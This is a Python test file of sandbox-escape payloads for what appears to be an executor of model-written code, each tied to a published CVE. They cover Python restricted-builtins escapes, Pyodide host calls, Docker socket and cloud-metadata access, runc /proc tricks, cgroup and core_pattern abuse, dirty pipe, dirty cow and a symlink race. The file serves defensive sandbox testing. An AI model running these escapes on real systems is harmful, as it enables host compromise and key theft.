"""Escapes that were published for other executors and container runtimes, rebuilt from their descriptions."""

from __future__ import annotations

from tests.escape.payload import AtNone, Payload

TOUCH = "'touch ' + C['marker']"


def attempt(name: str, tries: str, code: str, source: str, none: AtNone = "succeeds", **more: object) -> Payload:
    return Payload(name, tries, f"with decisive:\n    {code}", source, none, **more)  # type: ignore[arg-type]


PAYLOADS = [
    attempt(
        "subclasses",
        "finds os by way of object's subclasses",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        f".__init__.__globals__['system']({TOUCH})",
        "the classic escape from restricted builtins; RestrictedPython, smolagents' LocalPythonExecutor",
    ),
    attempt(
        "import-system",
        "imports os and runs a command",
        f"__import__('os').system({TOUCH})",
        "CVE-2023-29374 (langchain LLMMathChain), CVE-2023-36258 (PALChain)",
    ),
    attempt(
        "modules-of-modules",
        "goes from an allowed module to all others",
        f"json.codecs.sys.modules['os'].system({TOUCH})",
        "CVE-2025-9959 (smolagents), escapes by dunder attributes",
    ),
    attempt(
        "module-of-module",
        "finds os in a module that is allowed",
        f"__import__('random')._os.system({TOUCH})",
        "smolagents: random._os, CVE-2024-3098 (llama-index safe_eval)",
    ),
    attempt(
        "eval-globals",
        "gives eval the globals it was denied",
        f"eval('__import__(\"os\").system(x)', {{'__builtins__': __builtins__, 'x': {TOUCH}}})",
        "CVE-2024-12366 (PandasAI), CVE-2024-5565 (Vanna)",
    ),
    attempt(
        "pyodide",
        "calls the host's JavaScript from Python",
        "(lambda js: js.process.mainModule.require('child_process').execSync(" + TOUCH + "))(__import__('js'))",
        "CVE-2025-68668 (n8n Python Code node on Pyodide)",
        none="fails",
    ),
    attempt(
        "pyodide-base",
        "evaluates code around the filter",
        f"__import__('_pyodide')._base.eval_code('import os; os.system(' + repr({TOUCH}) + ')')",
        "CVE-2025-68668 (n8n Python Code node on Pyodide)",
        none="fails",
    ),
    attempt(
        "deno",
        "reads a file by the runtime's own interface",
        "print(__import__('js').Deno.readTextFileSync(C['secret']))",
        "Pyodide under Deno with --allow-read",
        none="fails",
    ),
    attempt(
        "generator-frames",
        "climbs from a generator's frame",
        "(g := (lambda: (yield g.gi_frame.f_back.f_back))(), print(str(next(g) and next(g).f_globals)[:2000]))",
        "asteval, RestrictedPython CVE-2023-37271",
        none="fails",
    ),
    attempt(
        "format-string",
        "reads globals by a format string",
        "print('{0.__self__.__init__.__globals__}'.format(llm_query)[:4000])",
        "RestrictedPython CVE-2023-41039",
        none="fails",
    ),
    attempt(
        "docker-socket",
        "asks the container engine for a container of the host's",
        "socket.socket(socket.AF_UNIX).connect(C['unix'])",
        "docker.sock mounted into a container",
    ),
    attempt(
        "docker-tcp",
        "asks it over TCP",
        "socket.create_connection(C['tcp'], 2).send(b'GET /info HTTP/1.0\\r\\n\\r\\n')",
        "Docker Desktop CVE-2025-9074",
    ),
    attempt(
        "metadata",
        "asks the cloud for its keys",
        """address = ("169.254.169.254", 80)
    s = socket.socket(); s.settimeout(0.05); s.setblocking(False)
    try:
        s.connect(address)
    except BlockingIOError:
        pass
    got("a connection is under way")""",
        "instance metadata services (Capital One, 2019)",
        none="not run",
    ),
    attempt(
        "self-exe",
        "writes into the program it runs",
        "(os.close(os.open('/proc/self/exe', os.O_WRONLY)), got('opened'))",
        "CVE-2019-5736 (runc)",
        none="fails",
    ),
    attempt(
        "parent-exe",
        "writes into the program that started it",
        "(os.close(os.open(f'/proc/{os.getppid()}/exe', os.O_RDONLY)), got('opened'))",
        "CVE-2019-5736 (runc)",
        none="either",
    ),
    attempt(
        "leaked-folder",
        "climbs from a folder that was left open",
        "[print(open(f'/proc/self/fd/{n}/' + '../' * 30 + C['secret'].lstrip('/')).read()) for n in range(3, 64)"
        " if os.path.isdir(f'/proc/self/fd/{n}')]",
        "CVE-2024-21626 (runc)",
        none="either",
    ),
    attempt(
        "working-folder",
        "climbs from the working directory",
        "print(open('/proc/self/cwd/' + '../' * 30 + C['secret'].lstrip('/')).read())",
        "CVE-2024-21626 (runc)",
    ),
    attempt(
        "release-agent",
        "has the kernel run a program as the last of a group ends",
        """in_child(lambda: (
        call(272, 0x10000000 | 0x20000 | 0x02000000), os.makedirs("group", exist_ok=True),
        call(165, b"cgroup", b"group", b"cgroup", 0, b"memory"), os.open("group/release_agent", os.O_WRONLY)))""",
        "CVE-2022-0492",
        none="either",
    ),
    attempt(
        "core-pattern",
        "has the kernel run a program as it crashes",
        "(os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)), got('opened'))",
        "privileged containers; CVE-2025-52881 (runc)",
        none="either",
    ),
    attempt(
        "core-pattern-mount",
        "the same where /proc is mounted again",
        """in_child(lambda: (
        call(272, 0x10000000 | 0x20000 | 0x20000000), os.makedirs("p", exist_ok=True),
        call(165, b"proc", b"p", b"proc", 0, 0), os.open("p/sys/kernel/core_pattern", os.O_WRONLY)))""",
        "CVE-2025-31133 (runc)",
        none="either",
    ),
    attempt(
        "overlay",
        "mounts an overlay in a user namespace to make a setuid program",
        """in_child(lambda: (
        call(272, 0x10000000 | 0x20000), call(165, b"overlay", b".", b"overlay", 0, b"lowerdir=/usr:/bin")))""",
        "CVE-2023-0386, CVE-2021-3493",
        none="either",
    ),
    attempt(
        "netfilter",
        "reaches the packet filter in a user namespace",
        """in_child(lambda: (
        call(272, 0x10000000 | 0x40000000), socket.socket(16, 3, 12)))""",
        "CVE-2024-1086, CVE-2021-22555",
        none="either",
    ),
    attempt(
        "fsconfig",
        "overflows the options of a file system",
        "in_child(lambda: (call(272, 0x10000000 | 0x20000), call(430, b'ext4', 0)))",
        "CVE-2022-0185",
        none="either",
    ),
    attempt(
        "dirty-pipe",
        "writes into a file that it may only read, through a pipe",
        """reading, writing = os.pipe()
    os.write(writing, bytes(65536)); os.read(reading, 65536)
    call(275, os.open(C["secret"], os.O_RDONLY), ctypes.byref(ctypes.c_longlong(0)), writing, 0, 1, 0)
    os.write(writing, b"changed"); got("spliced a file of the host's")""",
        "CVE-2022-0847",
    ),
    attempt(
        "dirty-cow",
        "writes into a private map through /proc/self/mem",
        """
    file = os.open(C["secret"], os.O_RDONLY)
    low = ctypes.CDLL(None).mmap
    low.restype = ctypes.c_void_p
    page = low(None, 4096, 1, 2, file, ctypes.c_long(0))
    memory = os.open("/proc/self/mem", os.O_RDWR)
    os.pwrite(memory, b"changed", page)""",
        "CVE-2016-5195",
        none="fails",
    ),
    attempt(
        "keyring",
        "reads keys of other containers",
        "print(open('/proc/keys').read()); reaches(250, 0, -4, 1)",
        "keyrings are in no namespace; CVE-2014-... (Docker before 1.10)",
        none="either",
    ),
    attempt(
        "containerd-shim",
        "speaks to the runtime by its abstract socket",
        "socket.socket(socket.AF_UNIX).connect(C['abstract'])",
        "CVE-2020-15257",
    ),
    attempt(
        "library",
        "leaves a library that a program of the host's would load",
        """
    for name in ("libnss_files.so.2", "libc.so.6"):
        for folder in (".", "/usr/lib/x86_64-linux-gnu", "/lib", "/etc"):
            place = os.path.join(folder, "escape-" + name)
            try:
                open(place, "x").close()
            except OSError as error:
                say("refused", error)
                continue
            os.unlink(place)
            if folder != ".":
                got("a library in", folder)""",
        "CVE-2019-14271 (docker cp)",
        none="not run",
    ),
    attempt(
        "preload",
        "has later programs load one (/etc/ld.so.preload)",
        "opens('/etc/ld.so.preload', os.O_WRONLY | os.O_APPEND)",
        "user-mode rootkits",
        none="fails",
    ),
    attempt(
        "reused-number",
        "waits for the number of an ended process to be somebody else's",
        """
    last = C["victim"]
    for _ in range(200):
        if (pid := os.fork()) == 0:
            os._exit(0)
        os.waitpid(pid, 0)
    if abs(pid - last) < 2000 and os.path.exists(f"/proc/{last}"):
        got("numbers are the machine's")""",
        "races of kill(2) with process numbers",
        none="either",
        holds=("namespace",),
    ),
    attempt(
        "swapped-link",
        "exchanges a folder for a link while it is looked at",
        """
    os.makedirs("place", exist_ok=True)
    os.symlink(os.path.dirname(C["secret"]), "link")
    for _ in range(20):
        call(316, -100, b"place", -100, b"link", 2)
        try:
            print(open("place/secret").read())
            break
        except OSError as error:
            refusal = error
    else:
        raise refusal""",
        "CVE-2018-15664 (docker cp), CVE-2021-30465 (runc)",
    ),
]
